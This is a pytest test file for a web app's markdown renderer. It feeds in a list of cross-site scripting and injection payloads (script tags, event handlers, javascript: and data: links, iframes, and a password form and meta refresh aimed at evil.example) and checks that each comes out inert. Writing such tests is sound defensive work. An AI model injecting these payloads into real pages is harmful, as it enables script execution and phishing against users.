"""Model output is untrusted: every hostile case comes out inert."""

import pytest

from webapp.markdown import render

from helpers import Elements

HOSTILE = {
    "script tag": "<script>alert(1)</script>",
    "onerror image": '<img src=x onerror="alert(1)">',
    "javascript link": "[click](javascript:alert(1))",
    "javascript link, odd case": "[click](JaVaScRiPt:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": "[x](vbscript:msgbox)",
    "raw anchor": '<a href="javascript:alert(1)">x</a>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "style": "<style>body{display:none}</style>",
    "svg": '<svg onload="alert(1)"></svg>',
    "event attribute in html block": '<div onclick="alert(1)">hi</div>',
    "javascript image": "![x](javascript:alert(1))",
    "data image": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "data image link": "[x](data:image/png;base64,iVBORw0KGgo=)",
    "data autolink": "<data:text/html,hi>",
    "entity-encoded javascript": "[x](&#106;avascript:alert(1))",
    "reference-style javascript link": "[x][1]\n\n[1]: javascript:alert(1)",
    "protocol-relative link": "[looks local](//evil.example/phish)",
    "relative link into the app": "[x](/c/1/delete)",
    "fence that closes itself": "```js\n</code></pre><script>alert(1)</script>\n```",
    "hostile fence language": '```"><script>alert(1)</script>\nx\n```',
    "html comment": "<!-- <script>alert(1)</script> -->",
    "object and embed": '<object data="https://evil.example/x"></object><embed src="https://evil.example/y">',
    "form": '<form action="https://evil.example"><input name="password"></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base tag": '<base href="https://evil.example/">',
    "style attribute via html": '<span style="position:fixed;inset:0">cover</span>',
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_input_is_inert(name):
    for tag, attrs in Elements(str(render(HOSTILE[name]))).found:
        assert tag in {"p", "a", "code", "pre", "span", "br"}, (name, tag)
        assert "style" not in attrs, (name, attrs)
        assert not any(attr.startswith("on") for attr in attrs), (name, attrs)
        href = attrs.get("href", "https:").strip().lower()
        assert href.startswith(("https:", "http:", "mailto:")), (name, href)


def test_remote_images_become_links_not_loads():
    html = str(render("![secret chart](https://tracker.example/pixel.png?chat=secret)"))
    assert "<img" not in html
    assert '<a href="https://tracker.example/pixel.png?chat=secret" rel="noopener noreferrer nofollow">' in html
    assert "[image: secret chart]" in html


def test_safe_markdown_survives():
    html = str(render("# Title\n\n**bold**, *it*, `code`, ~~old~~\n\n- a\n- b\n\n> quote\n\n[site](https://example.org)"))
    for piece in ("<h1>Title</h1>", "<strong>bold</strong>", "<em>it</em>", "<code>code</code>", "<s>old</s>",
                  "<li>a</li>", "<blockquote>", 'href="https://example.org"'):
        assert piece in html


def test_code_is_highlighted_on_the_server():
    html = str(render("```python\ndef f():\n    return 1\n```"))
    assert '<pre><code class="language-python">' in html
    assert '<span class="k">def</span>' in html


def test_code_without_language_is_escaped_text():
    html = str(render("```\n<b>not bold</b>\n```"))
    assert "&lt;b&gt;not bold&lt;/b&gt;" in html and "<b>" not in html


def test_tables_and_line_breaks():
    html = str(render("| a | b |\n|---|---|\n| 1 | 2 |\n\nline one\nline two"))
    assert "<table>" in html and "<td>1</td>" in html and "<br>" in html
    assert "style=" not in html  # the CSP forbids inline styles anyway


def test_raw_html_is_shown_as_text():
    html = str(render('<b onmouseover="x()">hi</b> <img src="https://x.example/a.png">'))
    assert "&lt;b onmouseover=" in html and "&lt;img src=" in html
    assert "<b" not in html and "<img" not in html


def test_links_get_rel_and_only_absolute_safe_urls():
    html = str(render("[site](https://example.org) [mail](mailto:me@example.org) [local](/settings)"))
    assert '<a href="https://example.org" rel="noopener noreferrer nofollow">site</a>' in html
    assert 'href="mailto:me@example.org"' in html
    assert 'href="/settings"' not in html and ">local</a>" in html  # kept as text, not a link into the app


def test_hostile_fence_language_cannot_add_classes():
    html = str(render('```x" onclick="y\ncode\n```'))
    assert "onclick" not in html.split("<code")[1].split(">")[0]


def test_pygments_stylesheet_is_generated_for_light_and_dark():
    from pathlib import Path

    from webapp.markdown import pygments_css
    css = pygments_css()
    assert ".markdown pre .k" in css and "prefers-color-scheme: dark" in css
    shipped = (Path(__file__).resolve().parent.parent / "static" / "css" / "pygments.css").read_text()
    assert shipped == "/* generated by webapp.markdown.pygments_css() */\n" + css  # python -m webapp.markdown


def test_bare_urls_become_safe_links():
    html = str(render("See https://example.org/docs and www.python.org, not javascript:alert(1)"))
    assert '<a href="https://example.org/docs" rel="noopener noreferrer nofollow">' in html
    assert 'href="http://www.python.org"' in html
    assert 'href="javascript' not in html
